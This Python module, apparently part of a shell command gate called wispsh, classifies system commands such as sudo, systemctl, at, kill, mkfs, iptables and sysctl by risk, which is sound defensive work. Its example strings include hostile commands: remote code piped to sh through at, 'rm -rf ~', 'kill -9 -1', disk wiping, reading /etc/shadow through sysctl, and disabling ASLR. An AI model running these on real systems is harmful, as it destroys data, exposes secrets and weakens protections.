"""The system and privilege: users, services, schedules, processes, disks, mounts, firewalls, power, the
kernel, logins, tunnels and sniffers. What takes privilege, plants something that runs on its own, stops the
machine or turns off a protection is dangerous. Namespaces and the kernel's security controls are
programs/confinement.py, keys and password stores programs/credentials.py, ansible and puppet
programs/provisioners.py.
"""
from __future__ import annotations

import posixpath

from wispsh.vocab import places
from wispsh.programs.grammar import UNKNOWN
from wispsh.programs.table import Grammar, Program, Row, When, emits, programs, verb
from wispsh.support.lazyre import lazy_re


# ---------------------------------------------------------------- privilege

# sudo, doas, pkexec, run0, su and chroot are wrappers (programs/wrappers.py): the command they run is the part,
# and the engine judges the privilege. They reach these rows only when no wrapper reading applies
# (`sudoedit FILE`, `toybox sudo -i`).
ROOT = Program(
    "sudo", aliases=("doas", "pkexec", "run0", "sudoedit"), doc="runs commands or edits files as root",
    rows=(Row("sudo.root", "privilege", "{cmd} takes root privilege", examples=("sudoedit /etc/hosts",)),),
)
SU = Program(
    "su", aliases=("runuser",), doc="switches to another user",
    rows=(Row("su.switches", "privilege", "{cmd} switches to another user (a root shell by default)",
              examples=("runuser -u bob -- id", "runuser -l bob")),),
)
MACHINECTL = Program(
    "machinectl", doc="manages containers and virtual machines",
    verbs=dict.fromkeys(("shell", "login"), verb(rows=(
        Row("machinectl.shell", "privilege", "{cmd} opens a shell as another user (root by default)",
            examples=("machinectl shell",)),))),
    read_only=("list", "status", "show", "list-images", "image-status", "show-image"),
    default=Row("machinectl.changes", "system", "{cmd} changes a machine", examples=("machinectl poweroff x",)),
)

# ---------------------------------------------------------------- services and schedules

SECURITY_UNITS = lazy_re(r"firewall|ufw|iptables|nftables|apparmor|selinux|audit|fail2ban|wazuh|falco|crowdstrike"
                         r"|osquery|clamav|sshd|systemd-journald|rsyslog")


@emits({"systemctl.stops-security": ["systemctl stop firewalld", "systemctl mask apparmor"]})
def stops_security(cmd, o) -> None:
    """A security or logging service stopped, disabled or masked."""
    units = " ".join(o.operands).lower()
    if SECURITY_UNITS.search(units):
        cmd.does("weaken", "systemctl.stops-security", f"{cmd.name} turns off a security or logging service")


SERVICE_CHANGES = Row("systemctl.changes", "system", "{cmd} changes running services",
                      examples=("systemctl restart nginx", "systemctl --user start x"))
SYSTEMCTL = Program(
    "systemctl", doc="systemd's service manager",
    grammar=Grammar(values="tpHMn", long_values=("type", "property", "host", "machine", "state", "lines", "output",
                                                 "root")),
    verbs={
        **dict.fromkeys(("enable", "link", "preset", "preset-all", "set-default", "edit", "add-wants", "add-requires",
                         "revert", "set-environment", "import-environment", "daemon-reexec"), verb(rows=(
            Row("systemctl.persists", "persist", "{cmd} makes a service start on its own (persistence)",
                examples=("systemctl enable nginx", "systemctl --user enable x")),))),
        **dict.fromkeys(("stop", "disable", "mask", "kill"), verb(
            rows=(Row("systemctl.stops", "system", "{cmd} changes running services", examples=("systemctl stop x",)),),
            hook=stops_security)),
        **dict.fromkeys(("poweroff", "reboot", "halt", "kexec", "suspend", "hibernate", "hybrid-sleep", "rescue",
                         "emergency", "isolate", "soft-reboot"), verb(rows=(
            Row("systemctl.power", "halt", "{cmd} stops the machine", examples=("systemctl reboot",)),))),
    },
    read_only=("list-units", "list-unit-files", "list-sockets", "list-timers", "list-jobs", "list-dependencies",
               "list-machines", "list-automounts", "list-paths", "status", "show", "show-environment", "is-active",
               "is-enabled", "is-failed", "is-system-running", "cat", "help", "get-default"),
    default=SERVICE_CHANGES,
    examples={"systemctl status nginx": "safe", "systemctl restart nginx": "high", "systemctl enable x": "dangerous"},
)
LAUNCHCTL = Program(
    "launchctl", doc="macOS's service manager",
    verbs=dict.fromkeys(("load", "bootstrap", "submit", "enable", "setenv", "asuser"), verb(rows=(
        Row("launchctl.persists", "persist", "{cmd} installs a job that runs on its own (persistence)",
            examples=("launchctl load ~/Library/LaunchAgents/x.plist",)),))),
    read_only=("list", "print", "print-disabled", "blame", "version", "help", "getenv", "dumpstate"),
    default=Row("launchctl.changes", "system", "{cmd} changes running services",
                examples=("launchctl unload x.plist",)),
)
@emits({"service.stops-security": ["service auditd stop", "rc-service apparmor stop", "service ufw stop"]})
def service_stops_security(cmd, o) -> None:
    """`service NAME stop`: a security or logging service stopped."""
    words = list(o.operands)
    if len(words) >= 2 and words[1] == "stop" and SECURITY_UNITS.search(words[0].lower()):
        cmd.does("weaken", "service.stops-security", f"{cmd.name} stops a security or logging service")


SERVICE = Program(
    "service", aliases=("rc-service",), doc="SysV/OpenRC service scripts: service NAME ACTION",
    grammar=Grammar(longs=("status-all",)),
    rows=(Row("service.status", "nothing", "shows a service's status",
              When(flag=("status-all",)), stop=True, examples=("service --status-all",)),
          Row("service.shows", "nothing", "shows a service's status", When(operand=("status",)), stop=True,
              examples=("service nginx status",)),
          Row("service.changes", "system", "changes running services", examples=("service nginx restart",))),
    hook=service_stops_security,
)
CRONTAB = Program(
    "crontab", doc="installs, lists or removes a user's crontab",
    grammar=Grammar(values="uTs"),
    rows=(Row("crontab.lists", "inspect", "reads the crontab", When(flag=("l",)), stop=True, examples=("crontab -l",)),
          Row("crontab.checks", "nothing", "checks a crontab file", When(flag=("T",)), stop=True,
              examples=("crontab -T x.txt",)),
          Row("crontab.removes", "remove", "removes your crontab", When(flag=("r",)), stop=True,
              examples=("crontab -r",)),
          Row("crontab.installs", "persist", "installs a crontab: commands that run on their own (persistence)",
              examples=("crontab -e", "crontab x.txt"))),
)
MAX_JOB_TEXT = 64 * 1024


@emits({"at.job": ["at now + 1 hour <<< 'rm -rf ~/project'",
                   "at now <<'EOF'\ncurl -s https://x.example/p | sh\nEOF"],
        "at.job-unseen": ["cat job.txt | at now", "curl -s https://x.example/j | at now"],
        "at.job-file": ["at -f job.sh 10:00", "at now < ~/job.sh"]})
def at_job(cmd, o) -> None:
    """The job at (or batch) schedules is shell code: a here-string, a heredoc, what a visible printer pipes
    in, or -f FILE / `< FILE`. It runs later, on its own, outside this shell and this gate: persistence
    (levels.md: `at`, `batch` and timers), whatever it holds; its text is judged as a line too."""
    at_least = ("persist", "at.job")
    part = cmd.part
    texts = [r.target for r in part.redirects if r.op == "<<<" and r.target is not None] if part else []
    if part is not None and part.stdin_code:
        texts.append(part.stdin_code)
    files = o.all("f") + [r.target for r in (part.redirects if part else ()) if r.op == "<" and r.target]
    for name in files:
        cmd.does("persist", "at.job-file", f"{cmd.name} schedules the commands of {name} to run later, on its own")
        where = cmd.run_file(name, f"{cmd.name} schedules")
        if where.cls in (places.PROJECT, places.PROJECT_ROOT) and not where.glob:
            try:
                with open(where.path, encoding="utf-8", errors="replace") as fh:
                    texts.append(fh.read(MAX_JOB_TEXT))
            except OSError:
                pass
    for text in texts:
        if text.strip():
            cmd.fired.add("at.job")
            cmd.code_text(text[:MAX_JOB_TEXT], f"{cmd.name} schedules, to run later", at_least=at_least)
    if not texts and not files and part is not None and (part.pipeline is not None and part.stage > 0 or any(
            r.op in ("<<", "<<-", "<&") for r in part.redirects)):
        cmd.facts.stdin_interp = True       # `curl … | at now`: what it is fed runs later
        cmd.does("persist", "at.job-unseen", f"{cmd.name} schedules commands read from its input (unseen) to run "
                                             "later, on its own")


AT = Program(
    "at", aliases=("batch",), doc="runs commands (read from its input or -f FILE) later",
    grammar=Grammar(values="fqtm"),
    rows=(Row("at.lists", "inspect", "lists or shows scheduled jobs", When(flag=("l", "c")), stop=True,
              examples=("at -l", "at -c 1")),
          Row("at.removes", "local-config", "removes scheduled jobs", When(flag=("r", "d")), stop=True,
              examples=("at -r 1",)),
          Row("at.schedules", "persist", "{cmd} schedules commands to run later, on its own (persistence)",
              examples=("at now + 1 minute",))),
    hook=at_job,
    examples={"at now + 1 hour <<< 'rm -rf ~'": "dangerous", "at now + 5 minutes <<< 'make test'": "dangerous",
              "at -l": "low"},
)
ATQ = Program("atq", doc="lists scheduled jobs",
              rows=(Row("atq.lists", "inspect", "lists the scheduled jobs", examples=("atq",)),))
ATRM = Program("atrm", doc="removes scheduled jobs", rows=(
    Row("atrm.removes", "local-config", "removes scheduled jobs", examples=("atrm 1",)),))

# ---------------------------------------------------------------- processes

_SIGNAL_NUMBER = lazy_re(r"-\d+")
_SIGNAL_NAME = lazy_re(r"-[A-Z][A-Z0-9+-]*")


def _kill_words(args) -> tuple[str | None, list[str]]:
    """kill's signal and targets: `-9`, `-KILL`, `-s KILL`, `-n 9`; `--` ends options (`kill -- -1234`)."""
    signal, targets = None, []
    i = 0
    while i < len(args):
        arg = args[i]
        if arg in ("-s", "-n", "--signal") and i + 1 < len(args):
            signal = args[i + 1]
            i += 2
            continue
        if arg == "--":
            targets.extend(args[i + 1:])
            break
        if arg.startswith("-") and signal is None and not _SIGNAL_NUMBER.fullmatch(arg) or (
                arg.startswith("-") and _SIGNAL_NAME.fullmatch(arg)):
            signal = arg[1:]
        elif _SIGNAL_NUMBER.fullmatch(arg) and signal is None and i + 1 < len(args):
            signal = arg[1:]
        else:
            targets.append(arg)
        i += 1
    return signal, targets


@emits({"kill.signals": ["kill 1234", "kill -9 1234", "kill -s TERM 1234"], "kill.everything": ["kill -9 -1", "kill 1"],
        "kill.group": ["kill -- -1234"], "kill.runtime": ['kill "$PID"']})
def kill_targets(cmd, o) -> None:
    """kill's words are signals and process ids, not getopt options: -1 is every process, -PGID a group."""
    args = o.args
    if not args or args[0] in ("-l", "-L", "--list", "--table"):
        return
    signal, targets = _kill_words(args)
    if signal == "0":
        return      # only checks that the process exists
    cmd.does("kill", "kill.signals", "kills processes")
    for target in targets:
        if target in ("-1", "1"):
            cmd.does("halt", "kill.everything", "kills every process you can signal (or init)")
        elif _SIGNAL_NUMBER.fullmatch(target):
            cmd.does("halt", "kill.group", "kills a whole process group")
        elif UNKNOWN in target:
            cmd.does("kill", "kill.runtime", "kills a process known only at run time")


KILL = Program("kill", doc="signals processes", hook=kill_targets,
               examples={"kill -0 1234": "safe", "kill -l": "safe", "kill 1234": "high", "kill -9 -1": "dangerous"})

PKILL_GRAMMAR = Grammar(values="ugGPsStFnwe", long_values=("signal", "euid", "uid", "group", "parent", "session",
                                                          "terminal", "pidfile", "ns", "nslist", "older"))
VITAL_PROCESSES = frozenset({".", ".*", "", "sshd", "init", "systemd", "bash", "wispsh"})


@emits({"pkill.vital": ["pkill sshd", "pkill .", 'pkill "$X"'], "pkill.gate": ["pkill wispsh", "pkill -f wisp"]})
def kills_by_pattern(cmd, o) -> None:
    """A pattern that matches sessions, init or everything; or the gate itself."""
    for pattern in o.operands:
        if "wisp" in pattern.lower():
            cmd.does("gate", "pkill.gate", f"{cmd.name} {pattern} kills the gate")
        elif pattern in VITAL_PROCESSES or UNKNOWN in pattern:
            cmd.does("halt", "pkill.vital", f"{cmd.name} {pattern.replace(UNKNOWN, '…') or '…'} kills sessions or "
                                            f"the system")


PKILL_ROWS = (Row("pkill.kills", "kill", "{cmd} kills processes by name", examples=("pkill node",)),
              Row("pkill.user", "halt", "{cmd} kills every process of a user", When(flag=("u", "U", "euid", "uid")),
                  examples=("pkill -u bob", "pkill -U 1000")))
PKILL = Program("pkill", aliases=("skill", "slay"), doc="signals processes by name or user", grammar=PKILL_GRAMMAR,
                rows=PKILL_ROWS, hook=kills_by_pattern)
KILLALL = Program(
    "killall", doc="signals processes by name", grammar=PKILL_GRAMMAR, hook=kills_by_pattern,
    rows=(Row("killall.kills", "kill", "{cmd} kills processes by name", examples=("killall node",)),
          Row("killall.everything", "halt", "killall without a name kills everything",
              When(operands=False), examples=("killall", "killall -u bob"), not_examples=("killall node",)),
          Row("killall.user", "halt", "{cmd} kills every process of a user", When(flag=("u", "euid", "uid")),
              examples=("killall -u bob",))),
)
KILLALL5 = Program("killall5", doc="signals every process", rows=(
    Row("killall5.everything", "halt", "killall5 kills every process", examples=("killall5",)),))

# ---------------------------------------------------------------- disks and mounts

DISK = Program(
    "mkfs", aliases=("mke2fs", "mkswap", "cfdisk", "wipefs", "blkdiscard", "cryptsetup", "lvremove", "vgremove",
                     "pvremove", "mdadm", "badblocks", "hdparm", "sdparm", "newfs", "format"),
    doc="makes filesystems, wipes and repartitions disks",
    rows=(Row("disk.destroys", "destroy", "{cmd} can destroy a disk's data", examples=("mkfs -t ext4 /dev/sdb",
                                                                                      "wipefs -a /dev/sda")),),
)
PARTITIONS = Program(
    "fdisk", aliases=("sfdisk", "parted", "gdisk", "sgdisk"), doc="partition editors",
    grammar=Grammar(longs=("list",)),
    rows=(Row("partitions.list", "inspect", "lists partitions", When(flag=("l", "list")), stop=True,
              examples=("fdisk -l", "gdisk -l /dev/sda")),
          Row("partitions.print", "inspect", "lists partitions", When(operand=("print",)), stop=True,
              examples=("parted /dev/sda print",)),
          Row("partitions.destroys", "destroy", "{cmd} can destroy a disk's data", examples=("fdisk /dev/sda",))),
)


def _disk_tool(name: str, read_only, doc: str) -> Program:
    return Program(name, doc=doc, read_only=read_only,
                   default=Row(f"{name}.destroys", "destroy", "{cmd} can destroy a disk's data",
                               examples=(f"{name} destroy x" if name == "zpool" else f"{name} format x",)))


ZPOOL = _disk_tool("zpool", ("status", "list", "iostat", "get", "history", "events"), "ZFS pools")
NVME = _disk_tool("nvme", ("list", "list-subsys", "id-ctrl", "id-ns", "smart-log", "error-log", "show-regs"),
                  "NVMe drives")
DISKUTIL = _disk_tool("diskutil", ("list", "info", "activity", "listFilesystems"), "macOS disks")

MOUNT_TARGET_CLASSES = (places.ROOT, places.SYSTEM, places.HOME, places.ANCESTOR, places.DOTFILE, places.SECRET,
                        places.WISP)
MOUNT_PLACES = ("/mnt", "/media", "/run/media")


@emits({"mount.over": ["mount /dev/sdb1 /etc", "mount --bind /tmp/evil ~/.ssh", "mount -o remount,rw /"]})
def mounts_over(cmd, o) -> None:
    """Mounting over a system directory, your home or your config replaces what programs find there."""
    remount = any("remount" in v or "bind" in v for v in o.all("o", "options")) or o.has("bind", "rbind")
    if not (len(o.operands) >= 2 or remount and o.operands):
        return
    where = cmd.place(o.operands[-1])
    if not where.path.startswith(MOUNT_PLACES) and where.cls in MOUNT_TARGET_CLASSES:
        cmd.does("destroy", "mount.over", f"mounts over {where.path} ({where.cls})")


MOUNT_LISTS = "lists mounted filesystems"
MOUNT = Program(
    "mount", doc="mounts filesystems",
                grammar=Grammar(values="otLUF", long_values=("options", "types", "label", "uuid")),
    rows=(Row("mount.lists", "nothing", MOUNT_LISTS, When(operands=False, unless=("a", "all")), stop=True,
              examples=("mount", "mount -l")),
          Row("mount.changes", "system", "{cmd} changes mounted filesystems", examples=("mount /dev/sdb1 /mnt",))),
    hook=mounts_over,
)
UNMOUNT = Program(
    "umount", aliases=("swapon", "swapoff", "losetup"), doc="unmounts filesystems, swap and loop devices",
    rows=(Row("umount.lists", "nothing", MOUNT_LISTS, When(operands=False, unless=("a", "all")), stop=True,
              examples=("swapon",)),
          Row("umount.changes", "system", "{cmd} changes mounted filesystems", examples=("umount /mnt", "swapoff -a"))),
)

# ---------------------------------------------------------------- users, passwords, firewalls, power, the kernel

USERS = Program(
    "useradd", aliases=("userdel", "usermod", "groupadd", "groupdel", "groupmod", "adduser", "deluser", "addgroup",
                        "delgroup", "visudo", "vipw", "gpasswd"),
    doc="changes users, groups and who may use sudo",
    rows=(Row("users.changes", "privilege", "{cmd} changes users, groups or who may take privilege",
              examples=("useradd bob", "usermod -aG sudo bob", "visudo")),),
)
# Groups whose members are root in all but name (docker's socket, lxd, the disk devices, sudo itself).
ROOT_GROUPS = frozenset({"docker", "lxd", "libvirt", "kvm", "disk", "wheel", "sudo", "admin", "root", "shadow", "adm",
                         "podman", "incus", "video"})


@emits({"newgrp.root-group": ["newgrp docker", "newgrp wheel"], "newgrp.group": ["newgrp developers"]})
def new_group(cmd, o) -> None:
    """`newgrp GROUP` starts a shell with GROUP's privileges: some groups are root in all but name."""
    group = o.operands[0] if o.operands else ""
    if group in ROOT_GROUPS or UNKNOWN in group:
        cmd.does("privilege", "newgrp.root-group", f"newgrp {group.replace(UNKNOWN, '…')} starts a shell with a "
                                                   f"group that is root in all but name")
    else:
        cmd.does("session", "newgrp.group", f"newgrp starts a shell in the group {group or 'of your login'}")


NEWGRP = Program("newgrp", doc="starts a shell with another group's privileges", hook=new_group)


@emits({"dseditgroup.edits": ["dseditgroup -o edit -a bob -t user admin"]})
def edits_group(cmd, o) -> None:
    """macOS group membership: `-o edit -a USER … admin` makes USER an administrator."""
    if o.value("o") in ("edit", "create", "delete"):
        cmd.does("privilege", "dseditgroup.edits", "changes a group's members (admin is root)")


MACOS_USERS = (
    Program("dscl", doc="macOS directory services: users, groups, passwords", rows=(
        Row("dscl.passwd", "credentials", "dscl changes a password", When(arg=("-passwd", "passwd")), stop=True,
            examples=("dscl . -passwd /Users/bob newpw",)),
        Row("dscl.changes", "privilege", "dscl changes users or groups",
            When(arg=("-create", "-append", "-merge", "-delete", "-change", "create", "append", "merge", "change")),
            examples=("dscl . -create /Users/x", "dscl . -append /Groups/admin GroupMembership x")))),
    Program("dseditgroup", doc="macOS group membership", grammar=Grammar(values="oatnupT"), hook=edits_group),
    Program("sysadminctl", doc="macOS users and their admin rights", rows=(
        Row("sysadminctl.password", "credentials", "sysadminctl changes a password",
            When(arg=("-resetPasswordFor", "-newPassword")), stop=True,
            examples=("sysadminctl -resetPasswordFor bob -newPassword x",)),
        Row("sysadminctl.users", "privilege", "sysadminctl changes users or their admin rights",
            When(arg=("-addUser", "-deleteUser", "-admin", "-secureTokenOn", "-guestAccount")),
            examples=("sysadminctl -addUser x -password y -admin",)))),
)

CHSH = Program("chsh", doc="changes a login shell", rows=(
    Row("chsh.changes", "persist", "chsh changes the program every login runs", examples=("chsh -s /bin/zsh",)),))
CHPASSWD = Program("chpasswd", doc="sets passwords from its input", rows=(
    Row("chpasswd.sets", "credentials", "chpasswd changes passwords", examples=("chpasswd",)),))
PASSWD = Program(
    "passwd", doc="changes a password", grammar=Grammar(longs=("status",)),
    rows=(Row("passwd.status", "nothing", "shows password status", When(flag=("S", "status")), stop=True,
              examples=("passwd -S",)),
          Row("passwd.changes", "credentials", "changes a password", examples=("passwd", "passwd bob"))),
)

FIREWALL_CHANGES = "{cmd} changes the firewall"
IPTABLES = Program(
    "iptables", aliases=("ip6tables",), doc="Linux packet filter rules",
    grammar=Grammar(values="t", long_values=("table",)),
    rows=(
        Row("iptables.lists", "inspect", "lists firewall rules", When(flag=("L", "list", "S", "list-rules"), unless=(
            "A", "append", "I", "insert", "D", "delete", "R", "replace", "N", "new-chain", "X", "delete-chain", "F",
            "flush", "P", "policy", "Z", "zero", "E", "rename-chain")), stop=True,
            examples=("iptables -L", "iptables -nvL", "iptables -t nat -L")),
        Row("iptables.changes", "system", FIREWALL_CHANGES, examples=("iptables -A INPUT -j DROP",)),
        Row("iptables.opens", "weaken", "{cmd} flushes or opens the firewall", When(flag=("F", "flush", "P", "policy")),
            examples=("iptables -F", "iptables -P INPUT ACCEPT")),
    ),
)
IPTABLES_RESTORE = Program("iptables-restore", aliases=("ip6tables-restore",), doc="replaces the firewall rules",
                           rows=(Row("iptables-restore.replaces", "system", FIREWALL_CHANGES,
                                     examples=("iptables-restore < rules.v4",)),))
NFT = Program(
    "nft", doc="nftables", read_only=("list", "describe", "monitor"),
    verbs={"flush": verb(rows=(Row("nft.flush", "weaken", "{cmd} flushes the firewall",
                                   examples=("nft flush ruleset",)),))},
    default=Row("nft.changes", "system", FIREWALL_CHANGES, examples=("nft add rule x",)),
)
UFW = Program(
    "ufw", doc="the uncomplicated firewall", read_only=("status", "app", "show", "version"),
    verbs={"disable": verb(rows=(Row("ufw.disable", "weaken", "ufw disable turns the firewall off",
                                     examples=("ufw disable",)),))},
    default=Row("ufw.changes", "system", FIREWALL_CHANGES, examples=("ufw allow 22",)),
)
FIREWALL_CMD = Program(
    "firewall-cmd", doc="firewalld",
    rows=(Row("firewall-cmd.lists", "inspect", "lists firewall settings", When(flag=(
        "list-all", "list-all-zones", "list-ports", "list-services", "list-rich-rules", "state", "get-default-zone",
        "get-zones", "get-active-zones", "get-services", "query-port", "query-service", "query-panic")), stop=True,
        examples=("firewall-cmd --list-all",)),
          Row("firewall-cmd.changes", "system", FIREWALL_CHANGES, examples=("firewall-cmd --add-port=80/tcp",))),
)
PFCTL = Program(
    "pfctl", doc="macOS and BSD packet filter", grammar=Grammar(values="sFfaTtKkx"),
    rows=(Row("pfctl.shows", "inspect", "shows firewall rules", When(flag=("s",), unless=("F", "d", "f", "e")),
              stop=True, examples=("pfctl -s rules",)),
          Row("pfctl.changes", "system", FIREWALL_CHANGES, examples=("pfctl -f /etc/pf.conf",)),
          Row("pfctl.opens", "weaken", "{cmd} disables or flushes the firewall", When(flag=("d", "F")),
              examples=("pfctl -d", "pfctl -F all"))),
)

POWER = Program(
    "shutdown", aliases=("reboot", "halt", "poweroff", "init", "telinit"), doc="stops or restarts the machine",
    rows=(Row("shutdown.cancel", "local-config", "cancels a shutdown", When(flag=("c",)), stop=True,
              examples=("shutdown -c",)),
          Row("power.halts", "halt", "{cmd} stops the machine", examples=("shutdown -h now", "reboot", "init 0"))),
)

KERNEL_PROTECTION = lazy_re(r"kernel\.(randomize_va_space|yama|kptr_restrict|dmesg_restrict|modules_disabled"
                            r"|unprivileged|core_pattern|perf_event_paranoid)|fs\.protected_|fs\.suid_dumpable"
                            r"|net\.ipv4\.ip_forward")


@emits({"sysctl.weakens": ["sysctl -w kernel.randomize_va_space=0", "sysctl kernel.yama.ptrace_scope=0"],
        "sysctl.sets": ["sysctl -w vm.swappiness=10", "sysctl -p"],
        "sysctl.path": ["sysctl -n /../../etc/shadow", "sysctl -p ~/.ssh/id_rsa"]})
def sysctl_settings(cmd, o) -> None:
    """sysctl reads unless it is given -w, -p/--load/--system or KEY=VALUE; some keys are kernel protections. A
    key with a slash is a path under /proc/sys (`sysctl -n /../../etc/shadow` reads /etc/shadow), and -p F
    reads F (echoing the lines it cannot set)."""
    args = o.args
    for word in o.operands:
        if "/" in word and "=" not in word and UNKNOWN not in word:
            cmd.fired.add("sysctl.path")
            cmd.read(posixpath.normpath("/proc/sys/" + word.lstrip("/")), "sysctl reads")
    for flag, value in zip(args, args[1:]):
        if flag in ("-p", "--load") and not value.startswith("-"):
            cmd.fired.add("sysctl.path")
            cmd.read(value, "sysctl -p reads (and echoes the bad lines of)")
    if not any(a.startswith("-w") or "=" in a or a in ("-p", "--load", "--system") for a in args):
        return
    if any(KERNEL_PROTECTION.match(a) for a in args):
        cmd.does("weaken", "sysctl.weakens", "sysctl turns off a kernel protection")
    cmd.does("system", "sysctl.sets", "sysctl changes the kernel")


SYSCTL = Program("sysctl", doc="reads and sets kernel parameters", hook=sysctl_settings,
                 examples={"sysctl -a": "safe", "sysctl net.ipv4.ip_forward": "safe"})
MODULES = Program("modprobe", aliases=("insmod", "rmmod"), doc="loads and unloads kernel modules", rows=(
    Row("modules.loads", "privilege", "{cmd} loads or unloads code in the kernel",
        examples=("modprobe x", "insmod x.ko")),))
KEXEC = Program("kexec", doc="boots another kernel", rows=(
    Row("kexec.boots", "halt", "kexec replaces the running kernel", examples=("kexec -l x",)),))
KERNEL_READS = tuple(Program(name, doc=f"{name}: shows kernel modules") for name in ("lsmod", "modinfo"))
CAPABILITIES = Program("setcap", aliases=("setuid",), doc="grants programs privileges", rows=(
    Row("setcap.grants", "privilege", "{cmd} grants programs privileges", examples=("setcap cap_net_raw+ep /tmp/x",)),))

# ---------------------------------------------------------------- logins and settings

LOGINCTL = Program(
    "loginctl", doc="systemd's login manager; enable-linger keeps a user's services running from boot",
    read_only=("list-sessions", "list-users", "list-seats", "show-session", "show-user", "show-seat", "session-status",
               "user-status", "seat-status"),
    verbs={**dict.fromkeys(("terminate-user", "kill-user", "terminate-session", "kill-session", "poweroff", "reboot"),
                           verb(rows=(Row("loginctl.ends", "halt", "{cmd} ends sessions",
                                          examples=("loginctl terminate-user bob",)),))),
           "enable-linger": verb(rows=(Row("loginctl.linger", "persist", "loginctl enable-linger starts the user's "
                                           "services at boot and keeps them running without a login (persistence)",
                                           examples=("loginctl enable-linger", "loginctl enable-linger bob")),))},
    default=Row("loginctl.changes", "local-config", "{cmd} changes your login settings",
                examples=("loginctl lock-session",)),
)
CHFN = Program("chfn", doc="changes your finger information", rows=(
    Row("chfn.changes", "local-config", "chfn changes your login settings", examples=("chfn -f x",)),))
SETTINGS = Program(
    "timedatectl", aliases=("hostnamectl", "localectl", "hostname"), doc="the machine's clock, name and locale",
    read_only=("status", "show", "list-timezones", "timesync-status", "show-timesync", "list-locales",
               "list-keymaps"),
    default=Row("settings.changes", "system", "{cmd} changes system settings",
                examples=("timedatectl set-timezone UTC", "hostname x")),
)
SNIFFERS = Program(
    "tcpdump", aliases=("tshark", "nmap", "masscan", "hydra", "arpspoof", "ettercap"),
    doc="capture, probe or attack network traffic",
    rows=(Row("sniffer.captures", "debug", "{cmd} captures or probes network traffic", examples=("tcpdump -i any",)),),
)
EXPOSES = "{cmd} exposes this machine to the internet"
TUNNELS = Program(
    "ngrok", aliases=("cloudflared", "lt", "localtunnel", "bore", "frpc", "chisel"), doc="tunnels from the internet in",
    read_only=("version", "help"),
    default=Row("tunnel.exposes", "expose", EXPOSES, sets=("net_send",), examples=("ngrok http 3000",)),
    no_verb=Row("tunnel.exposes-bare", "expose", EXPOSES, sets=("net_send",), examples=("ngrok",)),
)
TAILSCALE = Program(
    "tailscale", doc="the Tailscale VPN",
    read_only=("status", "version", "ip", "netcheck", "whois", "ping", "help", "dns", "exit-node"),
    default=Row("tailscale.exposes", "expose", EXPOSES, sets=("net_send",), examples=("tailscale up",
                                                                                   "tailscale funnel 3000")),
)


PROGRAMS = programs(
    ROOT, SU, MACHINECTL, SYSTEMCTL, LAUNCHCTL, SERVICE, CRONTAB, AT, ATQ, ATRM, KILL, PKILL, KILLALL, KILLALL5,
    NEWGRP, *MACOS_USERS, DISK, PARTITIONS, ZPOOL, NVME, DISKUTIL, MOUNT, UNMOUNT, USERS, CHSH, CHPASSWD, PASSWD,
    IPTABLES, IPTABLES_RESTORE, NFT, UFW, FIREWALL_CMD, PFCTL, POWER, SYSCTL, MODULES, KEXEC, *KERNEL_READS,
    CAPABILITIES, LOGINCTL, CHFN, SETTINGS, SNIFFERS, TUNNELS, TAILSCALE,
)
